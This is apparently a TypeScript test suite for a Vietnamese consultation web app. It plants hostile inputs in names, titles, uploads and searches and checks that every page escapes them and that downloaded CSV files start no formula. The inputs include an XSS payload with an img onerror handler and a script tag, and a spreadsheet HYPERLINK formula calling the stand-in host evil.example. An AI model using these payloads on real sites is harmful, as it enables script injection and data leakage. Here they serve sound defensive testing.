import { expect } from 'chai'
import { addAccount, password, signedInAs } from '../support/accounts.ts'
import { Client } from '../support/client.ts'
import { linksOf } from '../support/pages.ts'
import { startServer, type TestServer } from '../support/server.ts'
import { smallConsultation, type SmallConsultation } from '../support/services.ts'

/** Whatever would be a tag, an attribute, a template's blank or a formula, were it not only words. */
const mark = 'xssmark'
const evil = `"><img src=x onerror=${mark}><script>${mark}()</script>'\`{{${mark}}}`
const formula = `=HYPERLINK("http://evil.example/?${mark}","Bấm")`

const csv = (rows: string[][]): string =>
  rows.map(row => row.map(cell => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\n')

describe('words that want to be code, on every page that shows them', () => {
  let server: TestServer
  let made: SmallConsultation
  let client: Client
  before(async function () {
    this.timeout(60_000)
    server = await startServer()
    made = await smallConsultation(server.services)
    const { store } = server.services
    const table = csv([
      ['Họ và tên', 'Đơn vị', 'Nội dung góp ý', 'Lý do'],
      [`Lan ${evil}`, `Chi đoàn ${evil}`, `Đề nghị thay “500 cây” bằng “${evil}” ở mục 1, phần II`, evil],
      [formula, formula, formula, formula]
    ])
    await made.upload(made.south, `bang ${evil}.csv`, table)
    await made.upload(
      made.south,
      `phieu ${evil}.txt`,
      `Họ và tên: ${evil}\n1. Đề nghị bổ sung “${evil}” vào mục 1, phần I.\n2. ${formula}`
    )
    await made.work()
    const consultation = made.root.consultation
    await store.write(async tx => {
      await tx
        .updateTable('consultations')
        .set({ title: `Đợt ${evil}`, body: `Đoàn ${evil}`, state: 'open' })
        .where('id', '=', consultation)
        .execute()
      await tx
        .updateTable('drafts')
        .set({ title: `Dự thảo ${evil}`, file: `${evil}.txt` })
        .where('consultation_id', '=', consultation)
        .execute()
      await tx
        .updateTable('units')
        .set({ name: `Chi đoàn ${evil}` })
        .where('consultation_id', '=', consultation)
        .where('parent_id', 'is not', null)
        .execute()
    })
    const administrator = await addAccount(store, { name: `Quản trị ${evil}`, administrator: true })
    await addAccount(store, {
      name: `Thư ký ${evil}`,
      roles: [{ consultation, unit: made.south.unit, role: 'secretary' }]
    })
    client = await signedInAs(server, administrator)
  })
  after(async () => {
    await server.stop()
    expect(server.faults).to.deep.equal([])
  })

  const expectWords = (html: string, address: string): void => {
    for (const at of html.matchAll(new RegExp(mark, 'g'))) {
      const around = html.slice(Math.max(0, at.index - 60), at.index + 20)
      expect(around, `${address}: …${around}`).not.to.match(new RegExp(`<img src=x|<script>${mark}`))
    }
    expect(html, address).not.to.match(/<img src=x|\sonerror=xss|<script>xss/)
    // No attribute was left through a quote: a quote of ours is always written as an entity.
    expect(html, address).not.to.contain('"><img')
  }

  it('stay words: every page from the overview on, for staff, secretary and administrator', async () => {
    const seen = new Map<string, number>()
    const todo = [
      '/consultations',
      '/users',
      '/account',
      '/audit',
      `/consultations/${made.root.consultation}`,
      `/consultations/${made.root.consultation}/people`,
      `/consultations/${made.root.consultation}/people/data?words=lan`
    ]
    const visited = new Set<string>()
    let shown = 0
    for (let address = todo.shift(); address !== undefined; address = todo.shift()) {
      const kind = address.replace(/\?.*|[\w-]*\d[\w-]*/g, '*')
      if (visited.has(address) || (seen.get(kind) ?? 0) >= 4) continue
      visited.add(address)
      seen.set(kind, (seen.get(kind) ?? 0) + 1)
      const response = await client.get(address)
      const type = response.headers.get('content-type') ?? ''
      if (!type.startsWith('text/html') || response.headers.get('content-disposition') !== null) continue
      const html = await response.text()
      expectWords(html, address)
      if (html.includes(mark)) shown++
      todo.push(...linksOf(html, address))
    }
    expect(shown, 'pages that show the words').to.be.above(15)
  }).timeout(90_000)

  it('stay words for members: the draft, the list of what is not sent, the receipt', async () => {
    const { code } = await server.services.store.db
      .selectFrom('consultations')
      .select('code')
      .where('id', '=', made.root.consultation)
      .executeTakeFirstOrThrow()
    const member = new Client(server.url)
    for (const path of ['', '/drafts/d1', '/comment', '/topics', '/unsent', '/upload', '/receipts']) {
      expectWords(await (await member.get(`/gop-y/${code}${path}`)).text(), path)
    }
    expectWords(
      await member.postAndFollow(`/gop-y/${code}/topics`, { 'topic-0': evil, 'topic-1': formula, action: 'add' }),
      'topics'
    )
    expectWords(await (await member.get(`/gop-y/${code}/unsent`)).text(), 'unsent')
  })

  it('stay words where they come back from what was just typed: forms with mistakes, searches, addresses', async () => {
    const base = `/consultations/${made.root.consultation}`
    const answers = await Promise.all([
      new Client(server.url).post('/sign-in', { login: evil, password, next: evil }),
      new Client(server.url).get(`/sign-in?next=${encodeURIComponent(evil)}`),
      client.post('/users', { name: evil, login: evil }),
      client.get(`/users?words=${encodeURIComponent(evil)}`),
      client.post(`${base}/people`, { login: evil, name: evil, role: 'staff', unit: '' }),
      client.get(`${base}/people/data?words=${encodeURIComponent(evil)}`),
      client.get(`${base}/submissions?q=${encodeURIComponent(evil)}`),
      client.get(`${base}/comments?q=${encodeURIComponent(evil)}`),
      client.get(`/audit?actor=${encodeURIComponent(evil)}&from=${encodeURIComponent(evil)}`),
      client.get(`/${encodeURIComponent(evil)}`),
      client.get(`${base}/${encodeURIComponent(evil)}`)
    ])
    for (const answer of answers) expectWords(await answer.text(), answer.url)
  })

  it('start no formula in any table that is downloaded', async () => {
    const base = `/consultations/${made.root.consultation}`
    const page = await (await client.get(`${base}/participation`)).text()
    const tables = linksOf(page, `${base}/participation`).filter(address => /tables\/|\.csv/.test(address))
    expect(tables).not.to.deep.equal([])
    for (const address of [...tables, `${base}/audit/csv`, '/audit/csv']) {
      const text = await (await client.get(address)).text()
      for (const line of text.replace(/^\ufeff/, '').split('\r\n')) {
        for (const cell of line.match(/(?:^|,)(?:"(?:[^"]|"")*"|[^,]*)/g) ?? []) {
          expect(cell.replace(/^,?"?/, ''), `${address}: ${cell}`).not.to.match(/^[=+@|]|^-(?!\d)/)
        }
      }
    }
  })
})
